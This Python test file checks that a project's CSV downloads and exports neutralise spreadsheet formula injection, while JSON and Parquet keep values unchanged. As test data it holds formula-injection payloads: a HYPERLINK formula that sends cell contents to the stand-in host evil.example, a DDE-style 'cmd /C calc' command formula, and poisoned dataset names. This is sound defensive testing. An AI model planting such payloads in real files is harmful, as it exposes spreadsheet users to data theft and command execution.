"""Every CSV the project writes (page downloads, `export`, the whole-dataset zip) is safe to open
in a spreadsheet: no cell starts a formula, no value starts a line of the comment header; JSON
and Parquet keep the values exactly (issue 13, item 3)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from chatbot_watch import queries
from chatbot_watch.filters import Filters
from chatbot_watch.store import duck
from chatbot_watch.store.build import build
from chatbot_watch.store.export import TABLES, export
from chatbot_watch.views.downloads import FORMULA_START, csv_text, json_text
from tests.conftest import edit

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a number column's negative value is no formula


def cells(text: str) -> list[list[str]]:
    """The rows of a CSV text (header first)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    bad = [c for r in rows for c in r if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert bad == [], f"{where}: cells a spreadsheet runs as formulas: {bad[:5]}"


def test_download_neutralises_formula_cells_and_keeps_json_exact() -> None:
    df = pd.DataFrame(
        {
            "text": FORMULAS,
            "items": [[v] for v in FORMULAS],
            "number": [-1, 2, -3, 4, 5, 6],
            "plain": ["a-b", "x=1", "'quoted", "", "ok", "@"],
        }
    )
    meta = {"as_of": "2026-06-30", "data_version": "v1", "licence": 'CC\r=HYPERLINK("https://evil.example")\u2028x'}
    text = csv_text(df)
    assert text.splitlines()[0] == "text,items,number,plain"  # the header is line 1; no metadata lines
    rows = cells(text)
    assert_no_formula(rows, "download")
    assert [r[0] for r in rows[1:]] == ["'" + v for v in FORMULAS]
    assert [r[1] for r in rows[1:]] == ["'" + v for v in FORMULAS]
    assert [r[2] for r in rows[1:]] == ["-1", "2", "-3", "4", "5", "6"]  # numbers stay numbers
    assert [r[3] for r in rows[1:]] == ["a-b", "x=1", "'quoted", "", "ok", "'@"]
    payload = json.loads(json_text(df, meta, "View", Filters(), "u"))
    assert [r["text"] for r in payload["rows"]] == FORMULAS
    assert payload["licence"] == meta["licence"]


def test_real_flows_download_has_no_formula_cell(real_db: Path) -> None:
    con = queries.connect(str(real_db))
    rows = queries.flows(con, Filters())
    assert_no_formula(cells(csv_text(rows)), "flows download")


@pytest.fixture
def poisoned_db(data_copy: Path, tmp_path: Path) -> Path:
    edit(data_copy, "apps.yaml", "name: DeepSeek", 'name: \'=HYPERLINK("https://evil.example","DeepSeek")\'')
    edit(data_copy, "companies.yaml", "note: PIPC called it an affiliate of ByteDance", "note: '@SUM(1+1) PIPC'")
    edit(data_copy, "companies.yaml", "name: ByteDance", "name: '-2+3 ByteDance'")
    db = tmp_path / "poisoned.duckdb"
    build(data_copy, db, today=dt.date(2026, 11, 29))
    return db


def test_export_neutralises_every_csv_and_keeps_json_and_parquet_exact(poisoned_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export(poisoned_db, out)
    for t in TABLES:
        assert_no_formula(cells((out / f"{t.name}.csv").read_text(encoding="utf-8")), f"{t.name}.csv")
    apps_csv = {r["id"]: r for r in csv.DictReader(io.StringIO((out / "apps.csv").read_text(encoding="utf-8")))}
    assert apps_csv["deepseek"]["name"] == '\'=HYPERLINK("https://evil.example","DeepSeek")'
    flows = list(csv.DictReader(io.StringIO((out / "flows.csv").read_text(encoding="utf-8"))))
    assert {r["app_name"] for r in flows} == {'\'=HYPERLINK("https://evil.example","DeepSeek")'}
    apps_json = {r["id"]: r for r in json.loads((out / "apps.json").read_text(encoding="utf-8"))}
    assert apps_json["deepseek"]["name"] == '=HYPERLINK("https://evil.example","DeepSeek")'
    con = duck.connect(None, allowed_dirs=[out])
    parquet = con.execute("SELECT name FROM read_parquet(?) WHERE id = 'bytedance'", [str(out / "companies.parquet")])
    assert parquet.fetchall() == [("-2+3 ByteDance",)]
